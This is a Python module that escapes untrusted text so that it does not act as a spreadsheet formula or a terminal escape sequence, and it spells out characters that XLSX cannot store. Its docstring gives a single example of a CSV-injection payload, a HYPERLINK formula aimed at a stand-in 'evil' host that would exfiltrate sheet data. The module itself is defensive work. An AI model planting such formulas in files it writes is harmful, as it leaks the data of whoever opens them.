"""Making text from a spec safe for the places reports end up in.

A spec may come from another agency, so every name, unit and label in it is
untrusted text. Three destinations need care:

* **Spreadsheets** (CSV and XLSX): a cell whose text starts with ``=``,
  ``+``, ``-``, ``@``, a tab or a carriage return may be run as a formula
  when the file is opened or the cell is edited (OWASP "CSV injection"):
  ``=HYPERLINK("http://evil/?"&A1, "klik")`` would send the sheet's data
  away. :func:`spreadsheet_text` prefixes such text with a single quote,
  which spreadsheet programs read as "this is text". Only *text* cells are
  escaped: numbers are written as numbers and a negative number stays one.
* **XLSX** additionally cannot store most ASCII control characters at all;
  :func:`xlsx_text` spells them out.
* **Terminals**: an escape sequence in a unit or a category name could
  recolour, retitle or rewrite the terminal; :func:`printable` spells out
  control characters (and the invisible bidirectional overrides that
  reorder what is shown) so that they are seen, not obeyed.
"""

from __future__ import annotations

import re

__all__ = ["FORMULA_PREFIXES", "printable", "spreadsheet_text", "xlsx_text"]

#: Leading characters that make spreadsheet programs treat a cell as a formula.
FORMULA_PREFIXES: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_text(text: str) -> str:
    """``text`` as a spreadsheet text cell that can never become a formula.

    ``=HYPERLINK(…)`` becomes ``'=HYPERLINK(…)``; text that cannot start a
    formula is returned unchanged. Apply it to text cells only, never to
    numbers (``-3`` written as a number is not a formula).
    """
    if text.startswith(FORMULA_PREFIXES):
        return "'" + text
    return text


# Characters XML 1.0 (and so XLSX) cannot hold; tab, line feed and carriage return it can.
_XML_ILLEGAL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")


def _spell(match: re.Match[str]) -> str:
    code = ord(match.group())
    return f"\\x{code:02x}" if code < 0x100 else f"\\u{code:04x}"


def xlsx_text(text: str) -> str:
    """:func:`spreadsheet_text`, with characters XLSX cannot store spelled out (``\\x07``).

    Carriage returns become line feeds: XML reads a stored ``\\r`` back as ``\\n``
    anyway, so the workbook holds what every reader will see.
    """
    text = spreadsheet_text(text).replace("\r\n", "\n").replace("\r", "\n")
    return _XML_ILLEGAL.sub(_spell, text)


# C0 controls (tab and newline included: they break table alignment), DEL, C1
# controls, and the bidirectional embeddings, overrides and isolates.
_UNPRINTABLE = re.compile("[\x00-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
_NAMED = {"\n": "\\n", "\r": "\\r", "\t": "\\t"}


def printable(text: str) -> str:
    """``text`` with control characters spelled out (``\\x1b``, ``\\n``) for a terminal."""
    return _UNPRINTABLE.sub(lambda m: _NAMED.get(m.group()) or _spell(m), text)
